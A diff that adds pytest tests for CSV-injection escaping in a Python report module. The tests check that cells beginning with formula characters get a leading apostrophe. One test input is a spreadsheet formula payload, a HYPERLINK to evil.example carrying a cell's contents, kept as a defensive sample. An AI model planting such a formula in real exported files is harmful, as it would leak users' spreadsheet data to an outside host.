@@ -15,6 +15,8 @@ from shared.reports import (
     Period,
     Rating,
     Supplement,
+    csv_cell,
+    csv_file,
     csv_rows,
     due_after_supplements,
     page_view,
@@ -311,3 +313,28 @@ def test_period_picker() -> None:
     assert period_of("month", date(2026, 2, 3)).end == date(2026, 2, 28)
     with pytest.raises(TaiChoError):
         period_of("decade", d)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
+        "+1+2",
+        "-2+3",
+        "@SUM(1,1)",
+        "\t=1+1",
+        "\r=1+1",
+        "＝1+1",
+    ],
+)
+def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(cell: str) -> None:
+    """OWASP CSV injection (issue 22 §2): the cell reads back as text with a leading '."""
+    assert csv_cell(cell) == "'" + cell
+    back = list(csv.reader(io.StringIO(csv_file([["x", cell]]).decode("utf-8-sig"))))
+    assert back == [["x", "'" + cell]]
+
+
+def test_ordinary_cells_are_left_alone() -> None:
+    for cell in ("12", "75,0 %", "Hồ sơ không đủ", "", "– Tại nhà", "1.001193 Khai sinh"):
+        assert csv_cell(cell) == cell
+    assert csv_file([["a", "b"], []]) == "\ufeffa,b\r\n\r\n".encode()
